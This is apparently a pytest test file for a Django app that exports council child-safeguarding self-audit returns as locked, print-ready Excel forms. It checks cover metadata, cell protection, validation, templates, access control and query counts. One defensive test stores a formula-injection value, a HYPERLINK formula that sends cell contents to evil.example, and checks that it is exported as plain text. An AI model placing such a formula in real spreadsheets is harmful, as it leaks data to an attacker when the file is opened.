"""Downloading a return or the blank template as SSI's electronic form (issue 4, items 1, 2, 4)."""

import datetime
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from standards.self_audit.rules import save_answers
from standards.spreadsheet.cells import (
    COLUMN_INDEX,
    COVER_SHEET,
    FIRST_ROW,
    HEADER_ROW,
    RETURN_SHEET,
)
from standards.spreadsheet.export import LINE_POINTS
from tests.standards.spreadsheet.helpers import XLSX, draft_for, export, fill, submitted_return

pytestmark = pytest.mark.django_db


def _cover(workbook) -> dict:
    sheet = workbook[COVER_SHEET]
    return {row[0]: row[1] for row in sheet.iter_rows(max_col=2, values_only=True) if row[0]}


def _row(workbook, code):
    sheet = workbook[RETURN_SHEET]
    for row in sheet.iter_rows(min_row=FIRST_ROW):
        if row[COLUMN_INDEX["code"] - 1].value == code:
            return {key: row[index - 1] for key, index in COLUMN_INDEX.items()}
    raise AssertionError(code)


def test_draft_downloads_as_a_designed_form(client_for, officer, council_a, framework):
    draft = fill(draft_for(council_a, framework, officer), officer, rating=3)
    url = reverse("spreadsheet:download", args=[council_a.code, draft.number])

    response = client_for(officer).get(url)

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert (
        (response["Content-Disposition"])
        == 'attachment; filename="509-climbie-2003-version-1-draft.xlsx"'
    )
    assert "no-store" in response["Cache-Control"]
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Cover", "Return"]

    cover = _cover(workbook)
    assert cover["Council"] == "Leicester"
    assert cover["Council code"] == "509"
    assert cover["Framework code"] == "climbie-2003"
    assert cover["Framework version"] == "1.0"
    assert cover["Return version"] == "1"
    assert cover["Status"] == "Draft"
    assert cover["Exported at"]
    assert cover["How to fill in this form"] is None  # a heading, then numbered instructions
    properties = {p.name: p.value for p in workbook.custom_doc_props.props}
    assert properties["ClimbieCouncilCode"] == "509"
    assert properties["ClimbieFrameworkCode"] == "climbie-2003"
    assert properties["ClimbieFrameworkVersion"] == "1.0"

    sheet = workbook["Return"]
    headings = [c.value for c in sheet[HEADER_ROW]]
    assert headings == [
        "Standard",
        "Code",
        "Criterion",
        "Laming recommendations and timescales",
        "Laming deadline",
        "Rating 1 means",
        "Rating 2 means",
        "Rating 3 means",
        "Rating 4 means",
        "Rating (1 to 4)",
        "Evidence and comment",
        "Intended improvement",
        "Lead officer",
        "Target date",
    ]
    codes = [row[1] for row in sheet.iter_rows(min_row=FIRST_ROW, values_only=True) if row[1]]
    assert len(codes) == 54
    assert codes.index("2.10") == codes.index("2.9") + 1

    row = _row(workbook, "2.10")
    assert row["standard"].value == "2. Assessment"
    assert row["deadline"].value.date() == datetime.date(2003, 4, 28)
    assert row["descriptor_1"].value == "Not in place."
    assert row["rating"].value == 3
    assert row["improvement"].value == "Improve 2.10"
    assert row["target_date"].value.date() == datetime.date(2003, 4, 1)
    assert row["target_date"].number_format == "dd/mm/yyyy"
    assert "Recommendation" in _row(workbook, "3.4")["recommendations"].value
    assert "months" in _row(workbook, "3.4")["recommendations"].value


def test_fixed_text_is_locked_inputs_are_not_and_it_prints_sensibly(officer, council_a, framework):
    workbook = openpyxl.load_workbook(io.BytesIO(export(draft_for(council_a, framework, officer))))
    sheet = workbook["Return"]
    row = _row(workbook, "1.1")
    for key in ("standard", "code", "criterion", "recommendations", "deadline", "descriptor_4"):
        assert row[key].protection.locked, key
        assert row[key].alignment.wrap_text, key
    for key in ("rating", "evidence", "improvement", "lead_officer", "target_date"):
        assert not row[key].protection.locked, key
    assert sheet.protection.sheet
    assert workbook["Cover"].protection.sheet
    assert sheet.page_setup.orientation == "landscape"
    assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A3
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.page_setup.fitToWidth == 1
    # Rows are sized to their wrapped text (criterion 1.7 is long), with room to type.
    assert sheet.row_dimensions[FIRST_ROW].height >= 2 * LINE_POINTS
    row_1_7 = _row(workbook, "1.7")["code"].row
    assert sheet.row_dimensions[row_1_7].height > sheet.row_dimensions[FIRST_ROW].height
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.freeze_panes == "C4"
    assert sheet.column_dimensions["C"].width >= 40

    validations = {v.type: v for v in sheet.data_validations.dataValidation}
    assert validations["list"].formula1 == '"1,2,3,4"'
    assert str(validations["list"].sqref) == "J4:J57"
    assert str(validations["date"].sqref) == "N4:N57"
    assert validations["textLength"].formula1 == "120"


def test_formula_like_text_is_exported_as_text(officer, council_a, framework):
    """Formula injection: the answer is kept exactly but can never run as a formula."""
    draft = draft_for(council_a, framework, officer)
    answer = draft.answers.get(criterion__code="1.1")
    hostile = {
        "evidence": '=HYPERLINK("http://evil.example/?d="&A1,"Click for evidence")',
        "improvement": "+44 20 7946 0000 to be called",
        "lead_officer": "@SUM(1+1)",
    }
    save_answers(draft, officer, {answer.criterion_id: (0, answer.values() | hostile)})
    other = draft.answers.get(criterion__code="1.2")
    save_answers(draft, officer, {other.criterion_id: (0, other.values() | {"evidence": "-5"})})

    data = export(draft)

    row = _row(openpyxl.load_workbook(io.BytesIO(data)), "1.1")
    for key, text in hostile.items():
        assert row[key].value == text
        assert row[key].data_type == "s"
        assert row[key].quotePrefix
    assert _row(openpyxl.load_workbook(io.BytesIO(data)), "1.2")["evidence"].quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet2.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    assert b"HYPERLINK" in sheet_xml


def test_text_a_spreadsheet_cannot_hold_is_left_out(officer, council_a, framework):
    draft = draft_for(council_a, framework, officer)
    answer = draft.answers.get(criterion__code="1.1")
    pasted = "From Word:\x0bline two\x07"
    save_answers(draft, officer, {answer.criterion_id: (0, answer.values() | {"evidence": pasted})})

    row = _row(openpyxl.load_workbook(io.BytesIO(export(draft))), "1.1")

    assert row["evidence"].value == "From Word:line two"


def test_blank_template_has_the_form_without_answers(client_for, officer, council_a, framework):
    fill(draft_for(council_a, framework, officer), officer, rating=2)

    response = client_for(officer).get(reverse("spreadsheet:template", args=[council_a.code]))

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('filename="509-climbie-2003-template.xlsx"')
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert _cover(workbook)["Status"] == "Blank template"
    assert _cover(workbook)["Council code"] == "509"
    rows = list(workbook["Return"].iter_rows(min_row=FIRST_ROW, values_only=True))
    assert len(rows) == 54
    assert all(value is None for row in rows for value in row[9:])
    assert all(row[2] for row in rows)


def test_submitted_version_downloads_for_inspectors(
    client_for, director, council_a, framework, inspector_unassigned
):
    audit_return = submitted_return(council_a, framework, director)
    url = reverse("spreadsheet:download", args=[council_a.code, audit_return.number])

    response = client_for(inspector_unassigned).get(url)

    assert response.status_code == 200
    cover = _cover(openpyxl.load_workbook(io.BytesIO(response.content)))
    assert cover["Status"] == "Submitted"
    assert cover["Reference"] == audit_return.reference


@pytest.mark.parametrize("who", ["officer_b", "inspector", "administrator"])
def test_drafts_and_templates_are_invisible_outside_the_council(
    request, client_for, officer, council_a, framework, who
):
    draft = draft_for(council_a, framework, officer)
    client = client_for(request.getfixturevalue(who))

    download = client.get(reverse("spreadsheet:download", args=[council_a.code, draft.number]))
    template = client.get(reverse("spreadsheet:template", args=[council_a.code]))

    assert download.status_code == 404
    assert template.status_code == 404


def test_export_query_count_does_not_grow_with_answers(
    client_for, officer, council_a, framework, django_assert_max_num_queries
):
    draft = fill(draft_for(council_a, framework, officer), officer, rating=2)
    client = client_for(officer)
    client.get(reverse("self_audit:overview", args=[council_a.code]))  # warm the session

    with django_assert_max_num_queries(12):
        response = client.get(reverse("spreadsheet:download", args=[council_a.code, 1]))

    assert response.status_code == 200
    assert draft.answers.count() == 54


def test_overview_and_version_pages_link_to_the_spreadsheets(
    client_for, officer, director, council_a, framework
):
    draft = draft_for(council_a, framework, officer)
    page = client_for(officer).get(reverse("self_audit:overview", args=[council_a.code]))
    html = page.content.decode()
    assert reverse("spreadsheet:download", args=[council_a.code, draft.number]) in html
    assert reverse("spreadsheet:template", args=[council_a.code]) in html
    assert reverse("spreadsheet:upload", args=[council_a.code]) in html

    version = client_for(officer).get(reverse("self_audit:version", args=[council_a.code, 1]))
    assert "Download version 1 as a spreadsheet" in version.content.decode()
